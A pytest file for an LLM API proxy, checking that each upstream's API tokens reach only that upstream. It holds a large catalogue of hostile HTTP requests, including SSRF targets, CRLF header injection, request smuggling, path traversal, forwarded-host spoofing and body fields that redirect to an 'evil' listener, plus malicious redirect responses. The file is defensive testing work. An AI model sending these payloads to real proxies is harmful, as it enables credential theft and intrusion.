# SPDX-License-Identifier: MIT
"""No byte of a token arrives anywhere but at its own upstream (H-29b, H-74)."""

import socket

import pytest

import play

# Without a run of PART bytes in common.
TOKENS = {"a": ["sk-Aq7ZxW3mKfVd9RtYbN2c", "sk-Hj5GpLe8UsQo4TiCvX6n"],
          "b": ["sk-Mz1BwDy0EkJr3PhFaS7u"]}
CLIENT = "sk-Oc9IlTn6XgUm2VqZeKb4"      # what clients send of their own
PART = 8
BODY = b'{"inputs":"x"}'
CHAT = b"/v1/chat/completions"


def asked(target=b"/models/m", *fields, host=b"proxy", body=BODY, method=b"POST"):
    """A request, byte for byte; a HOST of None leaves it out."""
    lines = [method + b" " + target + b" HTTP/1.1", *([b"Host: " + host] if host else []), *fields,
             b"Content-Length: %d" % len(body)]
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def chat(body):
    return asked(CHAT, b"Content-Type: application/json", body=body)


BEARER = b"Bearer " + CLIENT.encode()
# {a} and {b} are where the upstreams are, {evil} is a listener that nobody knows of.
TRICKS = {
    # The target
    "absolute": asked(b"http://{b}/models/m"),
    "absolute, with its host": asked(b"http://{b}/models/m", host=b"{b}"),
    "absolute, elsewhere": asked(b"http://{evil}/models/m", host=b"{evil}"),
    "absolute, of another scheme": asked(b"https://{evil}/models/m", host=b"{evil}"),
    "absolute, with a user": asked(b"http://{a}@{evil}/models/m", host=b"{evil}"),
    "absolute, with a password": asked(b"http://x:y@{b}/models/m", host=b"{b}"),
    "authority": asked(b"{b}"),
    "CONNECT": asked(b"{b}", method=b"CONNECT", host=b"{b}"),
    "asterisk": asked(b"*", method=b"OPTIONS", host=b"{b}"),
    "two slashes": asked(b"//{b}/models/m"),
    "backslashes": asked(b"\\\\{b}\\models\\m"),
    "encoded slash": asked(b"/%2f{b}/models/m"),
    "dots": asked(b"/models/../../{b}/m"),
    "encoded dots": asked(b"/models/%2e%2e/%2e%2e/{b}"),
    "URL as a model": asked(b"/models/http://{b}/m"),
    "user as a model": asked(b"/models/x@{b}"),
    "at": asked(b"/models/@{b}"),
    "fragment": asked(b"/models/m#@{b}/"),
    "query": asked(b"/models/m?url=http://{evil}/&host={evil}&api_base=http://{b}"),
    "parameter": asked(b"/models/m;@{b}"),
    "encoded line": asked(b"/models/m%0d%0aHost:%20{b}"),
    "line in the target": asked(b"/models/m HTTP/1.1\r\nHost: {b}\r\nX: "),
    "tab": asked(b"/models/m\t@{b}"),
    "NUL": asked(b"/models/m\0@{b}"),
    "TRACE": asked(method=b"TRACE", body=b""),
    "GET": asked(b"/models/m", b"Authorization: " + BEARER, method=b"GET", body=b""),
    "HTTP/1.0": b"POST /models/m HTTP/1.0\r\nContent-Length: 14\r\n\r\n" + BODY,
    # The host
    "host": asked(host=b"{b}"),
    "host elsewhere": asked(host=b"{evil}"),
    "no host": asked(host=None),
    "two hosts": asked(b"/models/m", b"Host: {b}"),
    "hosts in a row": asked(host=b"{a}, {b}"),
    "host with a user": asked(host=b"{a}@{b}"),
    "host and a line": asked(host=b"proxy\r\n Host: {b}"),
    "host with a path": asked(host=b"{b}/models/m?"),
    # Fields
    "forwarded": asked(b"/models/m", b"Forwarded: for=1.2.3.4;host={b};proto=http",
                       b"X-Forwarded-Host: {b}", b"X-Forwarded-Server: {b}", b"X-Host: {b}",
                       b"X-Forwarded-For: {b}", b"X-Forwarded-Port: 80"),
    "rewritten": asked(b"/models/m", b"X-Original-URL: http://{b}/", b"X-Rewrite-URL: //{b}/",
                       b"X-Original-Host: {b}", b"Destination: http://{b}/", b"Alt-Used: {b}"),
    "bases": asked(b"/models/m", b"X-Base-URL: http://{b}", b"api-base: http://{b}",
                   b"x-api-base: http://{evil}", b"x-upstream: b", b"x-reprise-upstream: b"),
    "credentials": asked(b"/models/m", b"Authorization: " + BEARER, b"x-api-key: " + BEARER,
                         b"api-key: " + BEARER, b"Cookie: k=" + BEARER,
                         b"Proxy-Authorization: " + BEARER, b"x-goog-api-key: " + BEARER),
    "two of them": asked(b"/models/m", b"Authorization: " + BEARER, b"Authorization: " + BEARER),
    "folded": asked(b"/models/m", b"Authorization: Bearer\r\n " + CLIENT.encode()),
    "hop by hop": asked(b"/models/m", b"Connection: authorization, host, x-api-key",
                        b"Authorization: " + BEARER),
    "proxy connection": asked(b"/models/m", b"Proxy-Connection: keep-alive",
                              b"Connection: close, Authorization"),
    "upgrade": asked(b"/models/m", b"Connection: Upgrade, HTTP2-Settings", b"Upgrade: h2c",
                     b"HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"),
    "expectation": asked(b"/models/m", b"Expect: 100-continue"),
    "referer": asked(b"/models/m", b"Referer: http://{b}/", b"Origin: http://{evil}"),
    "trailer": b"POST /models/m HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTrailer: Host,"
               b" Authorization\r\n\r\ne\r\n" + BODY + b"\r\n0\r\nHost: {b}\r\nAuthorization: " +
               BEARER + b"\r\n\r\n",
    "smuggled": b"POST /models/m HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nTransfer-Encoding: "
                b"chunked\r\n\r\n0\r\n\r\n" + asked(b"http://{b}/models/other"),
    "smuggled by length": asked(b"/models/m", b"Content-Length: 99", body=BODY + asked()),
    # The body
    "model is a path": chat(b'{"model":"../../{b}","messages":[]}'),
    "model is a URL": chat(b'{"model":"http://{b}/","messages":[]}'),
    "model has lines": chat(b'{"model":"m\\r\\nHost: {b}\\r\\n","messages":[]}'),
    "model twice": chat(b'{"model":"m","model":"other","messages":[]}'),
    "model is the other upstream": chat(b'{"model":"b","messages":[]}'),
    "bases in the body": chat(b'{"model":"m","messages":[],"api_base":"http://{evil}","base_url":'
                              b'"http://{b}","api_key":"x","upstream":"b","url":"http://{b}"}'),
    "fields in the body": chat(b'{"model":"m","messages":[],"extra_headers":{"Host":"{b}",'
                               b'"Authorization":"x"},"headers":{"Host":"{evil}"}}'),
    "image": chat(b'{"model":"m","messages":[{"role":"user","content":[{"type":"image_url",'
                  b'"image_url":{"url":"http://{evil}/x.png"}}]}]}'),
    "stream": chat(b'{"model":"m","messages":[],"stream":true}'),
    # From one to the other
    "the other": asked(b"/models/other"),
    "whoever answers": asked(b"/models/either"),
    "either in turn": asked(b"/models/shared") + asked(b"/models/shared", body=b'{"inputs":"y"}'),
    "one after the other": asked(b"/models/m") + asked(b"/models/other") +
                           asked(b"/models/either", host=b"{b}") + asked(b"/models/m"),
}

CALL = b"HTTP/1.1 %s\r\nContent-Length: 2\r\nContent-Type: application/json\r\n%s\r\n{}"
# What both upstreams answer to everything; {other} is the other one.
ANSWERS = {
    "200": CALL % (b"200 OK", b"Content-Location: http://{other}/followed\r\n"
                   b"Alt-Svc: http/1.1=\"{other}\"\r\n"
                   b"Link: <http://{other}/followed>; rel=preconnect\r\n"
                   b"Refresh: 0; url=http://{other}/followed\r\n"),
    **{code: CALL % (code.encode() + b" Moved", b"Location: http://{other}/followed\r\n")
       for code in ("300", "301", "302", "303", "305", "307", "308", "201", "421")},
    "307, relative": CALL % (b"307 Moved", b"Location: //{other}/followed\r\n"),
    "307, with a user": CALL % (b"307 Moved", b"Location: http://x:y@{other}/followed\r\n"),
    "307, elsewhere": CALL % (b"307 Moved", b"Location: http://{evil}/followed\r\n"),
    "103": b"HTTP/1.1 103 Early Hints\r\nLink: <http://{other}/followed>; rel=preload\r\n\r\n" +
           CALL % (b"200 OK", b""),
    "401": CALL % (b"401 No", b"WWW-Authenticate: Basic realm=\"http://{other}\", Bearer\r\n"),
    "407": CALL % (b"407 No", b"Proxy-Authenticate: Basic realm=\"{other}\"\r\n"),
    "429": CALL % (b"429 No", b"Retry-After: 1\r\nLocation: http://{other}/followed\r\n"),
    "503": CALL % (b"503 No", b"Location: http://{other}/followed\r\n"),
    "nothing": b"",
}


class Recorder(play.Upstream):
    """Gives one answer to everything, and keeps each byte that came."""

    def __init__(self):
        super().__init__()
        self.received, self.reply = [], b""

    def serve(self, wire):
        wire.sock = Ear(wire.sock, self.received)
        super().serve(wire)

    def answer(self, wire):
        wire.message()
        if not self.reply:
            raise play.Gone
        wire.send(self.reply)

    @property
    def heard(self):
        return b"".join(self.received)


class Ear:
    """A socket that keeps what it reads."""

    def __init__(self, sock, received):
        self.sock, self.received = sock, received

    def recv(self, size):
        data = self.sock.recv(size)
        self.received.append(data)
        return data

    def __getattr__(self, name):
        return getattr(self.sock, name)


def filled(text, **places):
    for name, place in places.items():
        text = text.replace(b"{" + name.encode() + b"}", place.encode())
    return text


def lengthened(request):
    """What was filled in made the body longer: its length follows, where it was right."""
    head, _, body = request.partition(b"\r\n\r\n")
    if b"chunked" in head or b"Content-Length: 99" in head or b"\r\nHost" in body:
        return request
    fields = [b"Content-Length: %d" % len(body) if line.startswith(b"Content-Length:") else line
              for line in head.split(b"\r\n")]
    return b"\r\n".join(fields) + b"\r\n\r\n" + body


def parts(token):
    text = token.removeprefix("sk-").encode()
    return [text[at:at + PART] for at in range(len(text) - PART + 1)]


def told(heard, tokens):
    """What of TOKENS was heard, also of a part of one, however it was spelt."""
    heard = heard.lower()
    return [token for token in tokens if any(part.lower() in heard for part in parts(token))]


@pytest.fixture
def recorders():
    made = {name: Recorder() for name in ("a", "b", "evil")}
    yield made
    for recorder in made.values():
        recorder.close()
        assert not recorder.faults


@pytest.mark.parametrize("answer", ANSWERS)
def test_a_token_is_seen_at_home_alone(proxy, recorders, answer):
    places = {name: recorder.address for name, recorder in recorders.items()}
    for name, other in (("a", "b"), ("b", "a")):
        recorders[name].reply = filled(ANSWERS[answer], other=places[other], **places)
    px = proxy({
        "upstreams": {name: {"url": recorders[name].url, "tokens": [{"value": token}
                                                                    for token in TOKENS[name]]}
                      for name in ("a", "b")},
        "routes": [{"model": "other", "to": "b"}, {"model": "either", "to": ["a", "b"]},
                   {"model": "shared", "to": {"a": 1, "b": 1}, "cache": False},
                   {"model": "*", "to": "a"}],
    }, env={name: f"http://{places['evil']}" for name in
            ("http_proxy", "https_proxy", "all_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY")})
    for trick in TRICKS.values():
        with px.connect() as client:
            client.send(lengthened(filled(trick, **places)))
            client.sock.shutdown(socket.SHUT_WR)
            said = client.rest()
        assert not told(said, [*TOKENS["a"], *TOKENS["b"]])
    px.stop()
    assert told(recorders["a"].heard, [*TOKENS["a"], *TOKENS["b"], CLIENT]) == TOKENS["a"]
    assert told(recorders["b"].heard, [*TOKENS["a"], *TOKENS["b"], CLIENT]) == TOKENS["b"]
    assert not any(b"/followed" in recorder.heard for recorder in recorders.values())
    assert recorders["evil"].heard == b"" and not recorders["evil"].wires
    assert not told(px.log.encode(), [*TOKENS["a"], *TOKENS["b"], CLIENT])


def test_there_are_enough_tricks():
    assert len(TRICKS) >= 40
